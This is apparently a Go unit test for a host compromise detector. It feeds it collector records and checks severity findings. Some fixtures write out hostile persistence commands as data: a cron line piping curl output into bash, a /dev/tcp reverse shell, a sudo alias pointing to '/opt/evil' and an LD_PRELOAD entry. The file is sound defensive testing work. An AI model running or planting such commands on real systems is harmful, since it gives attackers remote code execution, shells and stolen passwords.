package detect

import "testing"

func TestLasting(t *testing.T) {
	tests := []struct{ collector, line, want string }{
		{"persistence", `{"kind":"systemd-service","path":"/usr/lib/systemd/system/a.service","enabled":true,"command":"/usr/bin/a","config":{"package":"a"},"targets":[{"path":"/usr/bin/a","package":"a","sha256":"00"}]}`, ""},
		{"persistence", `{"kind":"systemd-service","path":"/etc/systemd/system/a.service","enabled":true,"config":{"sha256":"11"},"targets":[{"path":"/opt/a","sha256":"00"}]}`, "informational persistence-unowned"},
		{"persistence", `{"kind":"systemd-service","path":"/etc/systemd/system/a.service","enabled":false,"config":{"sha256":"11"},"targets":[{"path":"/opt/a","sha256":"00"}]}`, ""},
		{"persistence", `{"kind":"cron","path":"/etc/crontab","line":4,"command":"/tmp/x","config":{"package":"cron"},"targets":[{"path":"/tmp/x","temporary":true}]}`, "high persistence-temporary-folder"},
		{"persistence", `{"kind":"cron","path":"/etc/crontab","command":"rm -f /tmp/x","config":{"package":"cron"},"targets":[{"path":"/tmp/x","temporary":true}]}`, ""},
		{"persistence", `{"kind":"cron","path":"/var/spool/cron/a","command":"curl -s http://192.0.2.1/a | bash","targets":[{"path":"/usr/bin/curl","package":"curl"}]}`, "high persistence-fetches"},
		{"persistence", `{"kind":"cron","path":"/x","command":"bash -i >& /dev/tcp/192.0.2.1/443 0>&1"}`, "high persistence-fetches"},
		{"persistence", `{"kind":"cron","path":"/x","command":"curl -o /var/lib/a http://example.com/a"}`, ""},
		{"persistence", `{"kind":"xdg-autostart","path":"/home/a/x.desktop","targets":[{"path":"/opt/x","world_writable":true}]}`, "medium persistence-writable"},
		{"persistence", `{"kind":"git-hook","path":"/x","targets":[{"path":"/home/a/.x"}]}`, "medium persistence-hidden-name"},
		{"persistence", `{"kind":"systemd-timer","path":"/x","targets":[{}]}`, ""},
		{"persistence", `{"kind":"shell-line","path":"/home/a/.bashrc","targets":[{"path":"/home/a/.x"}]}`, ""},
		{"persistence", `{"kind":"shell-line","path":"/home/a/.bashrc","details":"stands for a program that asks for a password","command":"alias sudo='/opt/evil'"}`, "high shell-intercepts"},
		{"persistence", `{"kind":"shell-line","path":"/home/a/.bashrc","details":"stands for a program that asks for a password","command":"alias sudo='sudo -E'"}`, ""},
		{"persistence", `{"kind":"preload-environment","path":"/etc/environment","command":"LD_PRELOAD=/usr/lib/x.so"}`, "medium preload-variable"},
		{"persistence", `{"kind":"preload-environment","path":"/etc/environment","command":"PYTHONSTARTUP=/x"}`, ""},
		{"persistence", `{"kind":"pam","path":"/lib/security/pam_x.so","details":"a module of no package","targets":[{"path":"/lib/security/pam_x.so"}]}`, "high pam-module-unowned"},
		{"persistence", `{"kind":"pam","path":"/etc/pam.d/sshd","details":"runs a program","command":"pam_exec.so /x"}`, "medium pam-runs-program"},
		{"persistence", `{"kind":"package-script","path":"/var/lib/dpkg/info/a.postinst","details":"written later","targets":[{"path":"/var/lib/dpkg/info/a.postinst"}]}`, "low package-script-changed"},
		{"changed-files", `{"state":"changed","path":"/usr/bin/ls","package":"coreutils","algorithm":"md5","want":"00","got":"11"}`, "high package-file-changed"},
		{"changed-files", `{"state":"changed","path":"/etc/x","config":true}`, ""},
		{"changed-files", `{"state":"summary","checked":9}`, ""},
		{"privileged-files", `{"path":"/usr/bin/su","setuid":true,"uid":"0","package":"util-linux"}`, ""},
		{"privileged-files", `{"path":"/opt/x/helper","setuid":true,"uid":"0","package":null}`, "medium privileged-unowned"},
		{"privileged-files", `{"path":"/home/a/.sh","setuid":true,"uid":"0","package":null}`, "high privileged-unowned"},
		{"privileged-files", `{"path":"/opt/x","setgid":true,"uid":"0","package":null}`, ""},
		{"privileged-files", `{"path":"/opt/x","setuid":true,"uid":"0","package":""}`, ""},
		{"privileged-files", `{"path":"/opt/x","capabilities":"cap_setuid=ep","uid":"7","package":null}`, "medium privileged-unowned"},
		{"accounts", `{"name":"x","uid":"9","can_login":true,"password":{"state":"empty"}}`, "high empty-password"},
		{"accounts", `{"name":"x","uid":"9","can_login":false,"password":{"state":"empty"}}`, ""},
		{"sudo-rules", `{"path":"/etc/sudoers","line":3,"users":["anna"],"no_password":true,"all":true}`, "low sudo-no-password"},
		{"sudo-rules", `{"path":"/etc/sudoers","line":3,"users":["anna"],"all":true}`, ""},
	}
	for _, tt := range tests {
		var d Detector
		d.Live("live/"+tt.collector+".jsonl", []byte(tt.line+"\n"))
		if got := rules(&d); got != tt.want {
			t.Errorf("%s: got %q, want %q", tt.line, got, tt.want)
		}
		for _, f := range d.Findings() {
			if f.Reason == "" || f.Path == "" && tt.collector != "accounts" {
				t.Errorf("%s: %+v", tt.line, f)
			}
		}
	}
}
